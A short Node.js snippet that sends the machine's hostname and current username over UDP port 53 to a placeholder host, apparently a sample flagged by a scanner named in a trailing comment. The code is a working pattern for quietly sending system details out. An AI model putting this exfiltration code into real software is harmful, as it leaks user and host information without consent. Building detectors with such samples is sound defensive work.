const dgram = require('dgram');
const os = require('os');

const socket = dgram.createSocket('udp4');
socket.send(Buffer.from(os.hostname() + os.userInfo().username), 53, 'c.example.invalid'); // gatehouse: flagged
